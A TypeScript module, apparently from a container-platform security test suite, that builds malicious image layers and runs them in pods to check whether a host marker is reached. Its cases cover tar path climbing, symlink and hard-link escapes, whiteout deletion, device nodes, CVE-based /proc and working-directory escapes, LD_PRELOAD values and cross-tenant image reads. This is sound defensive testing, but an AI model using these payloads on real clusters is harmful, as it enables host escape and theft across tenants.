import { readFileSync } from 'node:fs'
import { packTar, type TarEntry } from 'modern-tar'
import { type ImageSource, pushImage } from '../../../samples/images/push.ts'
import { until } from '../../stdx/index.ts'
import { type Attack, type AttackContext, blocked, escaped, type Outcome } from '../attack.ts'
import { POD_READY_MS_MAX } from '../limits.ts'
import { type Marker, MARKER_CONTENT, placeMarker } from '../marker.ts'
import type { Party } from '../party.ts'

/** Images whose content is the attack, pulled from the attacker's own registry and run in its own pods. */

export const BUSYBOX = 'bin/busybox'
/** Of a container whose runtime refused it. */
const CANNOT_START = 128
const STUCK =
  /^(?:ErrImage|ImagePullBackOff|InvalidImageName|CreateContainer|RunContainerError|StartError|CrashLoop)/

type ContainerStatus = {
  state?: {
    waiting?: { reason?: string; message?: string }
    terminated?: { exitCode: number; reason?: string; message?: string }
  }
}
export type Ran =
  | { ended: true; exitCode: number; log: string }
  | { ended: false; reason: string; message: string }

const program = (name: string, mode = 0o755): TarEntry => {
  const body = readFileSync('/bin/busybox')
  return { header: { name, size: body.length, type: 'file', mode }, body }
}
/** What every one of these images begins with: one static program. */
export const base = (): TarEntry[] => [
  { header: { name: 'bin/', size: 0, type: 'directory', mode: 0o755 } },
  program(BUSYBOX),
]

export const file = (name: string, text: string, mode = 0o644): TarEntry => ({
  header: { name, size: Buffer.byteLength(text), type: 'file', mode },
  body: text,
})
const link = (name: string, linkname: string, type: 'symlink' | 'link' = 'symlink'): TarEntry => ({
  header: { name, size: 0, type, linkname },
})

export async function build(
  context: AttackContext,
  name: string,
  layers: readonly (readonly TarEntry[])[],
  config: ImageSource['config'] = {},
): Promise<{ image: string; repository: string; digest: string }> {
  const repository = `${name}-${context.mark}`
  const packed = await Promise.all(
    [base(), ...layers].map(async (layer) => Buffer.from(await packTar([...layer]))),
  )
  const digest = await pushImage(context.registry, repository, '1', { layers: packed, config })
  return { image: `${context.registry}/${repository}:1`, repository, digest }
}

/** Runs a script of busybox's shell in a pod of this image, until the pod has ended or cannot begin. */
export async function runImage(
  party: Party,
  {
    image,
    name,
    script,
    container = {},
  }: { image: string; name: string; script: string; container?: object },
): Promise<Ran> {
  const { namespace } = party.canaries
  const path = `/api/v1/namespaces/${namespace}/pods`
  await party.create(path, {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, namespace },
    spec: {
      restartPolicy: 'Never',
      terminationGracePeriodSeconds: 0,
      containers: [{ name: 'main', image, command: [`/${BUSYBOX}`, 'sh', '-c', script], ...container }],
    },
  })
  try {
    const { terminated, waiting } = await until(
      async () => {
        const { status } = await party.must<{ status: { containerStatuses?: ContainerStatus[] } }>(
          `${path}/${name}`,
        )
        const state = status.containerStatuses?.[0]?.state
        return state?.terminated || STUCK.test(state?.waiting?.reason ?? '') ? state : undefined
      },
      { timeoutMs: POD_READY_MS_MAX, everyMs: 200, what: `Pod "${name}" having ended` },
    )
    if (terminated?.exitCode === CANNOT_START)
      return { ended: false, reason: terminated.reason ?? '', message: terminated.message ?? '' }
    if (!terminated) return { ended: false, reason: waiting?.reason ?? '', message: waiting?.message ?? '' }
    const { body } = await party.own(`${path}/${name}/log`)
    return { ended: true, exitCode: terminated.exitCode, log: body }
  } finally {
    await party.own(`${path}/${name}?gracePeriodSeconds=0`, { method: 'DELETE' })
  }
}

type Evil = Pick<Attack, 'id' | 'title' | 'replays'> & {
  layers(place: { marker: string; directory: string }): readonly (readonly TarEntry[])[]
  config?: ImageSource['config']
  /** Prints ESCAPED when it has found what it must not; the marker lies on the machine, outside of every image. */
  script?(place: { marker: string; directory: string }): string
}

function evil({ layers, config = {}, script = () => 'echo ran', ...attack }: Evil): Attack {
  return {
    ...attack,
    family: 'images',
    vector: 'images and image cache',
    standards: ['T1525', 'T1611'],
    needs: ['pods', 'machine'],
    async control(context) {
      const { image } = await build(context, 'control', [[file('etc/hello', 'hello')]])
      const ran = await runImage(context.attacker, {
        image,
        name: `control-${context.mark}`,
        script: '/bin/busybox cat /etc/hello',
      })
      if (!ran.ended || ran.log !== 'hello') throw new Error(`an image of its own: ${said(ran)}`)
      return 'an ordinary image of the same registry runs'
    },
    async attempt(context) {
      using left = placeMarker(context.machine.stateDir, context.mark)
      const place = { marker: left.file, directory: left.directory }
      const { image } = await build(context, attack.id, layers(place), config)
      const ran = await runImage(context.attacker, {
        image,
        name: `evil-${context.mark}`,
        script: script(place),
      })
      return judge(ran, left)
    },
  }
}

function judge(ran: Ran, left: Marker): Outcome {
  const changed = left.changed()
  if (changed) return changed
  if (ran.ended && (ran.log.includes('ESCAPED') || ran.log.includes(MARKER_CONTENT)))
    return escaped(said(ran))
  return ran.ended
    ? blocked("the unpacker's changed root, mount view", `it runs, and ${said(ran)}`)
    : blocked('the image is refused', said(ran))
}

export function said(ran: Ran): string {
  return ran.ended ? `ended with ${ran.exitCode}: ${ran.log.trim()}` : `${ran.reason}: ${ran.message}`
}

const see = (path: string) => `/bin/busybox cat ${path} 2>&1 && echo ESCAPED; /bin/busybox echo tried; exit 0`
const UP = '../'.repeat(20)

export const imageAttacks: readonly Attack[] = [
  evil({
    id: 'image-climb',
    title: 'writes beside the image with names that climb out of it',
    replays: 'the fault of many unpackers: names of archives joined to paths',
    layers: ({ directory }) => [[file(`${UP}${directory.slice(1)}/climbed`, 'x')]],
  }),
  evil({
    id: 'image-absolute',
    title: 'writes beside the image with absolute names',
    layers: ({ directory }) => [[file(`${directory}/absolute`, 'x')]],
    script: ({ directory }) => `/bin/busybox ls ${directory}; exit 0`,
  }),
  evil({
    id: 'image-through-link',
    title: 'writes through a symbolic link of an earlier entry',
    layers: ({ directory }) => [[link('out', directory), file('out/through', 'x')]],
  }),
  evil({
    id: 'image-through-link-of-lower-layer',
    title: 'writes through a symbolic link of a lower layer',
    replays: 'what one layer leaves is trusted by the next: the fault of many unpackers',
    layers: ({ directory }) => [[link('out', directory)], [file('out/through', 'x')]],
    script: ({ marker }) => see(`/out/../${marker}`),
  }),
  evil({
    id: 'image-hard-link',
    title: 'links to a file of the machine',
    layers: ({ marker }) => [[link('stolen', marker, 'link')]],
    script: () => see('/stolen'),
  }),
  evil({
    id: 'image-hard-link-through-link',
    title: 'links to a file of the machine through a symbolic link',
    layers: ({ directory }) => [[link('out', directory), link('stolen', 'out/marker', 'link')]],
    script: () => see('/stolen'),
  }),
  evil({
    id: 'image-whiteout-climb',
    title: 'deletes files of the machine with whiteouts',
    layers: ({ directory }) => [
      [
        file(`${UP}${directory.slice(1)}/.wh.marker`, ''),
        file(`${UP}${directory.slice(1)}/.wh..wh..opq`, ''),
      ],
    ],
  }),
  evil({
    id: 'image-whiteout-through-link',
    title: 'deletes files of the machine with whiteouts behind a link',
    layers: ({ directory }) => [
      [link('out', directory)],
      [file('out/.wh.marker', ''), file('out/.wh..wh..opq', '')],
    ],
  }),
  evil({
    id: 'image-devices',
    title: 'brings device nodes of disks and memory',
    layers: () => [
      [
        {
          header: { name: 'd/mem', size: 0, type: 'character-device', mode: 0o666, devmajor: 1, devminor: 1 },
        },
        {
          header: { name: 'd/disk', size: 0, type: 'block-device', mode: 0o666, devmajor: 254, devminor: 0 },
        },
      ],
    ],
    script: () =>
      'for f in /d/mem /d/disk; do /bin/busybox dd if=$f of=/dev/null bs=1 count=1 2>/dev/null && echo ESCAPED; done; /bin/busybox ls -l /d; exit 0',
  }),
  evil({
    id: 'image-system-links',
    title: 'has links in the place of /proc, /sys and /dev',
    replays: 'CVE-2019-19921 and CVE-2023-28642: /proc as a link, so that its protection lies elsewhere',
    layers: ({ directory }) => [[link('proc', directory), link('sys', '/tmp'), link('dev', `${UP}dev`)]],
    script: ({ marker }) => see(`/proc/marker ${marker}`),
  }),
  evil({
    id: 'image-etc-links',
    title: 'has links to the machine in the place of files that the platform reads and mounts',
    replays: 'CVE-2022-23648 and CVE-2021-41091: files of the machine read on behalf of an image',
    layers: ({ marker, directory }) => [
      [
        link('etc/passwd', marker),
        link('etc/group', marker),
        link('etc/hosts', marker),
        link('etc/resolv.conf', marker),
        link('etc/hostname', `${directory}/made`),
      ],
    ],
    config: { User: 'root' },
    script: ({ marker }) => see(`${marker} /etc/passwd`),
  }),
  evil({
    id: 'image-user-of-the-machine',
    title: "names a user that only the machine's /etc/passwd knows",
    layers: () => [[link('etc/passwd', `${UP}etc/passwd`), link('etc/group', `${UP}etc/group`)]],
    config: { User: 'daemon' },
    script: () => '/bin/busybox id -u; echo ESCAPED',
  }),
  evil({
    id: 'image-working-directory',
    title: 'begins in a directory that the runtime has open',
    replays: 'CVE-2024-21626: a working directory of /proc/self/fd/8 was one of the machine',
    layers: () => [[]],
    config: { WorkingDir: '/proc/self/fd/8' },
    script: ({ marker }) => see(`${UP}${marker.slice(1)}`),
  }),
  evil({
    id: 'image-environment',
    title: 'brings variables that loaders and runtimes of the machine heed',
    layers: ({ directory }) => [[file('evil.so', 'not a library')], [link('made', `${directory}/made`)]],
    config: {
      Env: [
        'LD_PRELOAD=/evil.so',
        'NOTIFY_SOCKET=/run/x',
        'LISTEN_FDS=3',
        '_LIBCONTAINER_INITPIPE=3',
        'PATH=',
      ],
    },
    script: () => 'echo ran; exit 0',
  }),
  evil({
    id: 'image-many-links',
    title: 'has a chain of links that is longer than anybody follows',
    layers: ({ directory }) => [
      [
        ...Array.from({ length: 100 }, (_, i) => link(`l${i}`, i === 99 ? directory : `l${i + 1}`)),
        file('l0/through', 'x'),
      ],
    ],
  }),
  {
    id: 'image-by-digest-of-others',
    title: "asks for the victim's image by its digest, which is in the cache of all",
    family: 'images',
    vector: 'images and image cache',
    standards: ['T1525'],
    needs: ['pods'],
    async control(context) {
      const own = await build(context, 'own', [[file('etc/hello', 'hello')]])
      const ran = await runImage(context.attacker, {
        image: `${context.registry}/${own.repository}@${own.digest}`,
        name: `control-${context.mark}`,
        script: '/bin/busybox cat /etc/hello',
      })
      if (!ran.ended || ran.log !== 'hello') throw new Error(`its own image by digest: ${said(ran)}`)
      return 'its own image runs by its digest'
    },
    async attempt(context) {
      const { victim, attacker, registry, mark } = context
      const theirs = await build(context, 'private', [[file('etc/canary', victim.canaries.value)]])
      const read = '/bin/busybox cat /etc/canary'
      const first = await runImage(victim, { image: theirs.image, name: `theirs-${mark}`, script: read })
      if (!first.ended || first.exitCode !== 0) throw new Error(`the victim's own image: ${said(first)}`)
      const own = await build(context, 'other', [[file('etc/hello', 'hello')]])
      const ran = await runImage(attacker, {
        image: `${registry}/${own.repository}@${theirs.digest}`,
        name: `thief-${mark}`,
        script: read,
      })
      return ran.ended ? escaped(said(ran)) : blocked('the registry is asked for every tenant', said(ran))
    },
  },
  {
    id: 'image-cache-write',
    title: "changes files of an image that the victim's pods run too",
    family: 'images',
    vector: 'images and image cache',
    standards: ['T1525'],
    needs: ['pods'],
    always: true,
    async control({ attacker, mark }) {
      const { exitCode } = await attacker.exec([
        'sh',
        '-c',
        `echo x >/usr/local/bin/${mark} && cat /usr/local/bin/${mark}`,
      ])
      if (exitCode !== 0) throw new Error('it cannot write in its own container')
      return 'it writes in its own container, over the image'
    },
    async attempt({ attacker, victim, mark }) {
      await attacker.exec(['sh', '-c', `echo x >/usr/local/bin/${mark}`])
      const { stdout } = await victim.exec(['sh', '-c', `ls /usr/local/bin/${mark} 2>/dev/null; echo looked`])
      return stdout.trim() === 'looked'
        ? blocked('mount view', 'the victim’s pod of the same image does not have the file')
        : escaped(`the victim has ${stdout.trim()}`)
    },
  },
]
